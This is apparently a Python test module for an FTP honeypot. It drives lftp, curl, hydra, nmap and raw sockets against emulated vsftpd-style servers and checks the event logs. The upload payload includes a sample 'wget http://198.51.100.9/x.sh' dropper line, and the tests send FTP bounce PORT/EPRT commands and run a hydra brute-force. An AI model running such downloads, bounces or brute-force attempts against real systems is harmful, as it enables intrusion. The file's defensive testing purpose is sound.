"""
cases_ftp.py - the FTP module (issue 9), run by run.py.

Real clients: lftp (login, listing, download, upload through PASV/EPSV), curl (anonymous listing,
upload with -T, active mode to the client itself), a raw socket for the FTP bounce (PORT/EPRT to a
third address, refused and logged), hydra with a 3x3 list (every attempt one login event) and
nmap -sV (each personality named as the product it claims, never as a honeypot).
"""
import hashlib
import os
import re
import shutil
import socket
import subprocess

from harness import T, Service, Skip, by, connect, run_hydra
from cases import case, stop_and_read


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


def ftp_svc(name, **opts):
    return Service(name, protocol="ftp", **opts)


def recv_reply(s, timeout=None):
    """One FTP reply (multi-line aware) from a socket."""
    s.settimeout(timeout or T(5))
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            return data.decode("utf-8", "replace")
        data += chunk
        lines = data.decode("utf-8", "replace").split("\r\n")
        for i, l in enumerate(lines[:-1]):
            if re.match(r"^\d{3} ", l) and (i == 0 or not lines[0][3:4] == "-" or l[:3] == lines[0][:3]):
                return "\r\n".join(lines[:i + 1])


def ftp_events(evs):
    return [e for e in evs if e.get("protocol") == "ftp"]


@case
def ftp_lftp_curl_upload_and_list(ctx):
    """lftp logs in, lists, downloads and uploads; curl lists anonymously and uploads with -T; the
    uploads are stored by SHA-256, listed afterwards, and every command is a command.input event."""
    need("lftp", "curl")
    d = ctx.daemon("ftp-clients", [ftp_svc("ftp", server="vsftpd", accept_after="1")]).start()
    port = d.svc("ftp").port
    payload = os.urandom(70000) + b"#!/bin/sh\nwget http://198.51.100.9/x.sh\n"
    up = os.path.join(d.tmp, "up.bin")
    with open(up, "wb") as f:
        f.write(payload)
    got = os.path.join(d.tmp, "hostname.txt")
    script = ("set ftp:passive-mode on; set ftp:ssl-allow no; cd /etc; ls -la; get hostname -o %s; "
              "cd /tmp; put %s -o up.bin; ls; quote SYST; bye" % (got, up))
    r = subprocess.run(["lftp", "-u", "bob,Secret#1", "-p", str(port), "-e", script, "127.0.0.1"],
                       capture_output=True, stdin=subprocess.DEVNULL, timeout=T(30))
    out = r.stdout.decode("utf-8", "replace")
    assert r.returncode == 0, (r.returncode, out, r.stderr)
    # vsftpd's format: numeric owner and group, zero-padded day
    assert re.search(r"(?m)^-rw-r--r--    1 0        0\s+\d+ \w{3} \d\d [ \d:]{5} passwd\r?$", out), out
    # an upload gets vsftpd's local_umask 077 (Debian leaves it at the default): -rw-------
    assert re.search(r"(?m)^-rw-------    1 (\d+)\s+\1\s+%d \w{3} \d\d \d\d:\d\d up\.bin\r?$" % len(payload), out), out
    assert "215 UNIX Type: L8" in out, out
    with open(got) as f:
        assert f.read().strip(), "empty /etc/hostname"
    # curl: anonymous (chrooted to the FTP area), upload with -T, then list it; active mode too
    anon = b"anonymous upload\n"
    up2 = os.path.join(d.tmp, "anon.txt")
    with open(up2, "wb") as f:
        f.write(anon)
    r = subprocess.run(["curl", "-sS", "-T", up2, "ftp://127.0.0.1:%d/pub.txt" % port], capture_output=True,
                       timeout=T(15))
    assert r.returncode == 0, r.stderr
    r = subprocess.run(["curl", "-sS", "ftp://127.0.0.1:%d/" % port], capture_output=True, timeout=T(15))
    assert r.returncode == 0 and re.search(rb" %d \w{3} \d\d [\d:]{5} pub\.txt\r?\n" % len(anon), r.stdout), r
    r = subprocess.run(["curl", "-sS", "-P", "-", "ftp://127.0.0.1:%d/pub.txt" % port], capture_output=True,
                       timeout=T(15))
    assert r.returncode == 0 and r.stdout == anon, r
    evs = ftp_events(stop_and_read(d))
    ok = by(evs, "login.success", username="bob")
    assert len(ok) == 1 and ok[0]["password"] == "Secret#1" and ok[0]["method"] == "plain", ok
    assert by(evs, "login.success", username="anonymous", anonymous=True), evs
    cmds = [e["input"] for e in evs if e["eventid"] == "command.input"]
    for want in ("USER bob", "PASS Secret#1", "CWD /etc", "LIST -la", "RETR hostname", "STOR up.bin", "SYST",
                 "STOR pub.txt", "EPSV", "EPRT"):
        assert any(c == want or c.startswith(want + " ") for c in cmds), (want, cmds)
    ups = [e for e in evs if e["eventid"] == "session.file_upload"]
    want = {hashlib.sha256(payload).hexdigest(): "/tmp/up.bin", hashlib.sha256(anon).hexdigest(): "/pub.txt"}
    assert {e["shasum"]: e["filename"] for e in ups} == want, ups
    for e in ups:
        assert e["protocol_detail"] == "ftp", e
        with open(os.path.join(d.data_dir, e["outfile"]), "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == e["shasum"]
    xfer = [e for e in evs if e["eventid"] == "ftp.transfer" and e["command"] == "STOR"]
    assert sorted(e["bytes"] for e in xfer) == sorted([len(payload), len(anon)]) and all(e["complete"] for e in xfer)


@case
def ftp_bounce_refused(ctx):
    """PORT and EPRT to an address other than the client's are refused as vsftpd does and logged;
    a passive port only serves the client's own address."""
    d = ctx.daemon("ftp-bounce", [ftp_svc("ftp", server="vsftpd", data_timeout="1s")]).start()
    s = connect(d.svc("ftp").port)
    assert recv_reply(s).startswith("220 (vsFTPd 3.0."), "banner"
    for line, want in ((b"USER anonymous", "331 "), (b"PASS a@b", "230 "),
                       (b"PORT 10,9,8,7,0,25", "500 Illegal PORT command."),
                       (b"EPRT |1|192.0.2.1|6667|", "500 Illegal EPRT command."),
                       (b"PORT 127,0,0,1,0,22", "500 Illegal PORT command."),
                       (b"LIST", "425 Use PORT or PASV first.")):
        s.sendall(line + b"\r\n")
        reply = recv_reply(s)
        assert reply.startswith(want), (line, reply)
    # the passive port serves the control connection's address only
    s.sendall(b"PASV\r\n")
    m = re.match(r"227 Entering Passive Mode \(127,0,0,1,(\d+),(\d+)\)\.", recv_reply(s))
    assert m, "PASV reply"
    pport = int(m.group(1)) * 256 + int(m.group(2))
    other = connect(pport, source="127.0.0.2")
    other.settimeout(T(5))
    assert other.recv(100) == b"", "a foreign connection to the passive port must be closed"
    other.close()
    # no data connection within data_timeout: 425, and the session goes on
    s.sendall(b"LIST\r\n")
    assert recv_reply(s).startswith("150 "), "LIST accepted"
    assert recv_reply(s, T(5)).startswith("425 Failed to establish connection."), "data timeout"
    s.sendall(b"QUIT\r\n")
    assert recv_reply(s).startswith("221 Goodbye."), "QUIT"
    s.close()
    evs = ftp_events(stop_and_read(d))
    refused = [e for e in evs if e["eventid"] == "ftp.data_refused"]
    assert len(refused) == 1 and refused[0]["from_ip"] == "127.0.0.2", refused
    b = [e for e in evs if e["eventid"] == "ftp.bounce_attempt"]
    assert [(e["command"], e["target_ip"], e["target_port"]) for e in b] == [
        ("PORT", "10.9.8.7", 25), ("EPRT", "192.0.2.1", 6667)], b


@case
def ftp_hydra_attempts_counted(ctx):
    """hydra with 3 users x 3 passwords: every attempt is exactly one login.failed event."""
    need("hydra")
    d = ctx.daemon("ftp-hydra", [ftp_svc("ftp")]).start()
    users, pws = ["root", "admin", "ftpuser"], ["123456", "pass word", "admin"]
    ul, pl = os.path.join(d.tmp, "u.txt"), os.path.join(d.tmp, "p.txt")
    with open(ul, "w") as f:
        f.write("\n".join(users) + "\n")
    with open(pl, "w") as f:
        f.write("\n".join(pws) + "\n")
    r, out, before = run_hydra(d, ["-I", "-L", ul, "-P", pl, "-t", "4", "ftp://127.0.0.1:%d" % d.svc("ftp").port])
    assert r.returncode == 0 and "0 valid password" in out, out[-2000:]
    d.wait_event(lambda e: e["eventid"] == "login.failed", count=before + 9, what="9 login events")
    evs = ftp_events(stop_and_read(d))
    logins = [e for e in evs if e["eventid"].startswith("login.")][before:]   # of the run that counts
    got = sorted((e["username"], e["password"]) for e in logins)
    assert got == sorted((u, p) for u in users for p in pws), got


@case
def ftp_nmap_identifies_products(ctx):
    """nmap -sV names each personality's product; nothing says honeypot."""
    need("nmap")
    # Debian's ProFTPD 1.3.8 names no version in its banner: nmap says "ProFTPD" then
    names = {"vsftpd": r"vsftpd 3\.0\.\d", "proftpd": r"ProFTPD( 1\.3\.\w+)?", "pure-ftpd": r"Pure-FTPd",
             "microsoft": r"Microsoft ftpd"}
    svcs = [ftp_svc("ftp-%s" % n, server=n) for n in names]
    d = ctx.daemon("ftp-nmap", svcs).start()
    ports = ",".join(str(s.port) for s in svcs)
    r = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", ports, "127.0.0.1"], capture_output=True,
                       stdin=subprocess.DEVNULL, timeout=T(120))
    out = r.stdout.decode("utf-8", "replace")
    assert r.returncode == 0, r.stderr
    assert "honeypot" not in out.lower(), out
    for s, (n, pat) in zip(svcs, names.items()):
        m = re.search(r"(?m)^%d/tcp\s+open\s+ftp\s+(.*)$" % s.port, out)
        assert m and re.match(pat, m.group(1)), (n, out)
        ctx.note("nmap: %s -> %s" % (n, m.group(1).strip()))
    d.stop()
